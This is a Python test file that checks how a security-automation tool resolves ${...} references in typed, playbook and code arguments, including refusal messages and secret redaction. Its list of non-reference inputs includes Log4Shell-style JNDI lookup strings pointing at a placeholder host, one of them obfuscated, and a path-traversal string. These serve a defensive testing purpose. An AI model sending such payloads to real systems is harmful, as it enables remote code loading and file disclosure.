"""What an author wrote is resolved, once; in what changes something, a reference to nothing is refused by name."""

import string
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from warroom.content.integration import Argument, Script
from warroom.content.value import Complex, KeyValue, Operand, Simple, TransformerCall, Value
from warroom.context.scope import Scope
from warroom.model.errors import InvalidInputError
from warroom.model.json import Json
from warroom.services.commands.references import of_code, of_person, of_playbook
from warroom.services.commands.targets import Resolved, ScriptTarget
from warroom.testing.code import python_code

NEEDS = (Argument(name="target", required=True), Argument(name="more"))
ACT = Resolved(
    name="isolate",
    here=ScriptTarget(script=Script(id="isolate", name="isolate", arguments=NEEDS, code=python_code(""))),
    is_action=True,
)
READ = Resolved(name="look")
SCOPE = Scope(
    context={
        "Host": "FIN-1",
        "Trap": "${Secret}",
        "Secret": "hunter2",
        "Empty": "",
        "Null": None,
        "x y": "spaced",
        "env:HOME": "home",
    },
    inputs={"host": "${Secret}", "none": None},
    extra={"currentPlaybookID": "p1"},
)
# Text that is no reference, wherever it comes from.
TEXTS = [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${env:TEMP}\\x.dmp",
    "${x  y z}",
    "${}",
    "${ }",
    "${",
    "}${",
    "${x:-fallback}",
    "${x%%.*}",
    "${x//a/b}",
    "${#array[@]}",
    "${1}",
    "${@}",
    "${!x}",
    "${(id)}",
    "${[0]}",
    "${../../etc/passwd}",
    "$ {x}",
    "$x",
    "%TEMP%",
    "\\${",
    '${"a"}',
    "${a{b}c}",
    "${\n}",
    "${http://host/path}",
    "${(%x%)}",
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("around", ["{}", "https://cdn.example.com/{}", "{}|{}", "C:\\Users\\{}\\a"])
@pytest.mark.parametrize("resolved", [ACT, READ], ids=["action", "read"])
def test_typed_text_that_is_no_reference_stays_to_the_letter(resolved: Resolved, around: str, text: str) -> None:
    typed = around.replace("{}", text)
    assert of_person(resolved, {"target": typed}, SCOPE) == {"target": typed}


READ_IN_PLAYBOOKS = {"${x  y z}", "${(id)}", "${[0]}", "${../../etc/passwd}", "${(%x%)}"}


@pytest.mark.parametrize("text", [text for text in TEXTS if text not in READ_IN_PLAYBOOKS])
def test_what_a_playbook_holds_as_text_stays_too(text: str) -> None:
    written: dict[str, Value] = {"target": Simple(value=f"find {text} now")}
    assert of_playbook(ACT, written, SCOPE) == ({"target": f"find {text} now"})


@given(st.text(alphabet=string.printable.replace("$", "") + "äß字\u202e\x00", min_size=1))
def test_text_without_a_reference_arrives_to_the_letter(text: str) -> None:
    assert of_person(ACT, {"target": text}, SCOPE) == {"target": text}
    assert of_playbook(ACT, {"target": Simple(value=text)}, SCOPE) == {"target": text}
    assert of_code(ACT, {"target": text}, SCOPE) == {"target": text}


@given(st.text(alphabet="${}ab.'\"([)]=: \\", max_size=25))
def test_an_action_gets_what_was_written_or_is_refused_never_less(text: str) -> None:
    """Nothing of `a`, `b` or anything else is there: whatever is read as a reference has to be refused."""
    try:
        passed = of_person(ACT, {"target": text}, Scope(context={}))
    except InvalidInputError:
        return
    assert passed == {"target": text}


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("${Host}", "FIN-1"),
        ("<${Host}>", "<FIN-1>"),
        ("${Trap}", "${Secret}"),
        ("${inputs.host} ${Trap}", "${Secret} ${Secret}"),
        ("${x y}", "spaced"),
        ("${env:HOME}/a", "home/a"),
        ("[${Empty}]", "[]"),
        ("${.='${Host}'}", "${Host}"),
        ("https://cdn.example.com/${.='${x}'}", "https://cdn.example.com/${x}"),
        ("${.=val.Host}", "FIN-1"),
    ],
)
def test_a_reference_is_resolved_once(text: str, value: Json) -> None:
    assert of_person(ACT, {"target": text}, SCOPE) == {"target": value}
    assert of_playbook(ACT, {"target": Simple(value=text)}, SCOPE) == {"target": value}


@pytest.mark.parametrize(
    "text", ["${x}", "https://cdn.example.com/${x}", "${Null}", "a${inputs.none}", "${Host.x}", "${HOME}"]
)
def test_an_action_that_a_person_types_refuses_a_reference_to_nothing_by_name(text: str) -> None:
    written = text[text.index("${") :]
    with pytest.raises(InvalidInputError) as refused:
        of_person(ACT, {"more": text, "target": "FIN-1"}, SCOPE)
    assert str(refused.value).startswith(f"isolate was not run: its argument 'more' refers to {written}, which leads")
    assert f"write ${{.='{written}'}} in its place" in str(refused.value)


def test_a_refusal_shows_nothing_of_a_secret() -> None:
    with pytest.raises(InvalidInputError) as refused:
        of_person(replace(ACT, secrets=frozenset({"more"})), {"more": "pa${ss}word"}, SCOPE)
    assert "ss}" not in str(refused.value)


@pytest.mark.parametrize(
    "text", ["https://cdn.example.com/${x}", "${Host}${x}", "a ${inputs.none}", "${Form title.Answers.0}-a"]
)
def test_a_playbooks_action_refuses_a_part_that_leads_to_nothing(text: str) -> None:
    with pytest.raises(InvalidInputError, match=r"its argument 'more' refers to \$\{"):
        of_playbook(ACT, {"more": Simple(value=text), "target": Simple(value="a")}, SCOPE)


@pytest.mark.parametrize("text", ["${x}", "a ${x}"])
def test_a_playbooks_action_refuses_a_pair_that_leads_to_nothing(text: str) -> None:
    pairs = KeyValue(pairs={"Accept": Simple(value="text/xml"), "X-Host": Simple(value=text)})
    with pytest.raises(InvalidInputError, match=r"its argument 'more' refers to \$\{x\}"):
        of_playbook(ACT, {"more": pairs}, SCOPE)
    assert of_playbook(ACT, {"note": pairs}, SCOPE)["note"]["Accept"] == "text/xml"
    assert of_playbook(READ, {"more": pairs}, SCOPE)["more"]["Accept"] == "text/xml"


def test_a_pair_made_of_an_input_that_lacks_a_part_is_refused_in_an_action() -> None:
    inside = replace(SCOPE, inputs={"host": "FIN-"}, lost={"host": "${Gone}"})
    pairs = KeyValue(pairs={"X-Host": Simple(value="${inputs.host}")})
    with pytest.raises(InvalidInputError, match=r"an input in which \$\{Gone\} led to nothing"):
        of_playbook(ACT, {"more": pairs}, inside)


def test_an_argument_that_is_one_reference_to_nothing_is_not_given() -> None:
    written: dict[str, Value] = {"target": Simple(value="a"), "more": Simple(value="${Form title.Answers.0}")}
    assert of_playbook(ACT, written, SCOPE) == {"target": "a"}


def test_one_that_is_required_is_refused_by_name() -> None:
    with pytest.raises(InvalidInputError, match=r"its argument 'target' refers to \$\{Endpoint\.Name\}"):
        of_playbook(ACT, {"target": Simple(value="${Endpoint.Name}")}, SCOPE)


@pytest.mark.parametrize("name", ["description", "note", "comment", "closeNotes"])
def test_prose_may_lack_a_part_in_a_playbook_and_not_as_typed(name: str) -> None:
    text = "Done. ${Approval.reason}"
    assert of_playbook(ACT, {name: Simple(value=text)}, SCOPE) == {name: "Done. "}
    with pytest.raises(InvalidInputError, match=r"refers to \$\{Approval\.reason\}"):
        of_person(ACT, {name: text}, SCOPE)


def concat(**args: Operand) -> Complex:
    return Complex(root="Host", transformers=(TransformerCall(operator="concat", args=args),))


@pytest.mark.parametrize(
    "suffix",
    [
        Operand(value=Simple(value="x"), is_context=True),
        Operand(value=Simple(value="${x}")),
        Operand(value=Simple(value="/${x}")),
        Operand(value=Simple(value="inputs.none"), is_context=True),
    ],
)
def test_what_is_put_together_of_parts_needs_them_all(suffix: Operand) -> None:
    with pytest.raises(InvalidInputError, match="its argument 'target' refers to"):
        of_playbook(ACT, {"target": concat(suffix=suffix)}, SCOPE)


def test_what_is_put_together_of_parts_that_are_there_is_passed() -> None:
    suffix = Operand(value=Simple(value="Host"), is_context=True)
    prefix = Operand(value=Simple(value=""))
    assert of_playbook(ACT, {"target": concat(suffix=suffix, prefix=prefix)}, SCOPE) == {"target": "FIN-1FIN-1"}


def test_a_read_gets_what_there_is_as_in_xsoar() -> None:
    assert of_person(READ, {"a": "<${x}>", "b": "${x}"}, SCOPE) == {"a": "<>"}
    assert of_playbook(READ, {"a": Simple(value="<${x}>"), "b": Simple(value="${x}")}, SCOPE) == {"a": "<>"}


def test_code_gets_a_few_references_resolved_and_none_in_an_action() -> None:
    given_args: dict[str, Json] = {
        "a": "id=${currentPlaybookID}",
        "b": "${inputs.host}",
        "c": "${Secret}",
        "d": ["${Host}"],
    }
    assert of_code(READ, given_args, SCOPE) == {
        "a": "id=p1",
        "b": "${Secret}",
        "c": "${Secret}",
        "d": ["${Host}"],
    }
    assert of_code(ACT, given_args, SCOPE) == given_args
